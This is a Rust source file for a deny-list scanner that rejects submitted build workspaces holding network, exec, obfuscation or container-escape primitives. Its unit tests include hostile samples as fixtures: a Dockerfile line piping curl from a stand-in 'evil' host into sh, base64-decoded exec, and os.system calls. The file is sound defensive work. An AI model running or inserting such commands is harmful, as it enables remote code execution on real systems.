use std::path::{Path, PathBuf};
use tracing::{info, warn};
use walkdir::WalkDir;

/// File extensions the scanner reads. Everything else in a workspace is
/// opaque data the build may or may not use; only source and build files can
/// carry the primitives we refuse.
const SCANNED_EXTENSIONS: [&str; 9] = ["py", "rs", "sh", "js", "ts", "go", "rb", "pl", "c"];
const SCANNED_FILENAMES: [&str; 3] = ["Dockerfile", "Makefile", "entrypoint"];

/// Substring signatures grouped by what they indicate. Matching is
/// case-sensitive on the raw bytes of the file; one hit rejects the
/// submission.
///
/// The sandbox already denies network and privileged syscalls at runtime;
/// the scan exists to fail obviously hostile submissions before paying for a
/// build, and to catch exfiltration attempts aimed at the build step itself.
const NETWORK_SIGNATURES: [&str; 10] = [
    "socket.socket",
    "requests.get",
    "requests.post",
    "urllib.request",
    "http.client",
    "aiohttp",
    "httpx.",
    "TcpStream::connect",
    "reqwest::",
    "curl ",
];

const EXEC_SIGNATURES: [&str; 8] = [
    "subprocess.Popen",
    "subprocess.run",
    "subprocess.call",
    "os.system",
    "os.popen",
    "os.exec",
    "Command::new",
    "child_process",
];

const OBFUSCATION_SIGNATURES: [&str; 7] = [
    "base64.b64decode",
    "compile(",
    "__import__",
    "getattr(__builtins__",
    "marshal.loads",
    "codecs.decode",
    "eval(",
];

/// Dockerfile/build-time escape hatches.
const BUILD_SIGNATURES: [&str; 4] = [
    "--privileged",
    "/var/run/docker.sock",
    "nsenter",
    "setcap ",
];

#[derive(Debug, Clone)]
pub struct ScanViolation {
    pub file: PathBuf,
    pub category: &'static str,
    pub signature: &'static str,
}

/// Static source-level scanner run over a fetched workspace before any build
/// happens. Deny-list based: flags known network, exec, and obfuscation
/// primitives plus build-time escapes.
#[derive(Debug, Default)]
pub struct SourceScanner;

impl SourceScanner {
    pub fn new() -> Self {
        Self
    }

    fn should_scan(path: &Path) -> bool {
        if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
            if SCANNED_FILENAMES.iter().any(|f| name == *f) {
                return true;
            }
        }
        path.extension()
            .and_then(|e| e.to_str())
            .map(|ext| SCANNED_EXTENSIONS.contains(&ext))
            .unwrap_or(false)
    }

    fn scan_content(path: &Path, content: &str, violations: &mut Vec<ScanViolation>) {
        let groups: [(&'static str, &[&'static str]); 4] = [
            ("network", &NETWORK_SIGNATURES),
            ("exec", &EXEC_SIGNATURES),
            ("obfuscation", &OBFUSCATION_SIGNATURES),
            ("build_escape", &BUILD_SIGNATURES),
        ];
        for (category, signatures) in groups {
            for signature in signatures {
                if content.contains(signature) {
                    violations.push(ScanViolation {
                        file: path.to_path_buf(),
                        category,
                        signature,
                    });
                }
            }
        }
    }

    pub fn scan_workspace(&self, workspace: &Path) -> Vec<ScanViolation> {
        let mut violations = Vec::new();
        let mut files_scanned = 0usize;

        for entry in WalkDir::new(workspace)
            .into_iter()
            .filter_entry(|e| e.file_name() != ".git")
            .filter_map(|e| e.ok())
            .filter(|e| e.file_type().is_file())
        {
            if !Self::should_scan(entry.path()) {
                continue;
            }
            files_scanned += 1;
            match std::fs::read_to_string(entry.path()) {
                Ok(content) => Self::scan_content(entry.path(), &content, &mut violations),
                Err(e) => {
                    // A source file we cannot read is itself suspicious.
                    warn!(file = %entry.path().display(), error = %e, "unreadable source file");
                    violations.push(ScanViolation {
                        file: entry.path().to_path_buf(),
                        category: "unreadable",
                        signature: "unreadable_source_file",
                    });
                }
            }
        }

        info!(
            workspace = %workspace.display(),
            files_scanned,
            violations = violations.len(),
            "🔍 source scan complete"
        );
        violations
    }

    pub fn is_safe(&self, workspace: &Path) -> bool {
        self.scan_workspace(workspace).is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn workspace_with(name: &str, content: &str) -> tempfile::TempDir {
        let tmp = tempfile::tempdir().unwrap();
        fs::write(tmp.path().join(name), content).unwrap();
        tmp
    }

    #[test]
    fn test_clean_workspace_passes() {
        let ws = workspace_with(
            "analyzer.py",
            "import pandas as pd\n\ndef run(inp, out):\n    pass\n",
        );
        assert!(SourceScanner::new().is_safe(ws.path()));
    }

    #[test]
    fn test_network_primitive_rejected() {
        let ws = workspace_with("main.py", "import requests\nrequests.get('http://x')\n");
        let violations = SourceScanner::new().scan_workspace(ws.path());
        assert!(!violations.is_empty());
        assert_eq!(violations[0].category, "network");
    }

    #[test]
    fn test_exec_primitive_rejected() {
        let ws = workspace_with("run.sh", "#!/bin/sh\npython -c \"import os; os.system('id')\"\n");
        assert!(!SourceScanner::new().is_safe(ws.path()));
    }

    #[test]
    fn test_obfuscation_rejected() {
        let ws = workspace_with(
            "loader.py",
            "import base64\nexec(base64.b64decode(blob))\n",
        );
        let violations = SourceScanner::new().scan_workspace(ws.path());
        assert!(violations.iter().any(|v| v.category == "obfuscation"));
    }

    #[test]
    fn test_dockerfile_escape_rejected() {
        let ws = workspace_with(
            "Dockerfile",
            "FROM python:3.11\nRUN curl -s http://evil | sh\n",
        );
        assert!(!SourceScanner::new().is_safe(ws.path()));
    }

    #[test]
    fn test_non_source_files_ignored() {
        let ws = workspace_with("data.csv", "requests.get,os.system\n");
        assert!(SourceScanner::new().is_safe(ws.path()));
    }

    #[test]
    fn test_git_dir_skipped() {
        let tmp = tempfile::tempdir().unwrap();
        let git = tmp.path().join(".git");
        fs::create_dir_all(&git).unwrap();
        fs::write(git.join("hook.py"), "os.system('x')").unwrap();
        assert!(SourceScanner::new().is_safe(tmp.path()));
    }
}
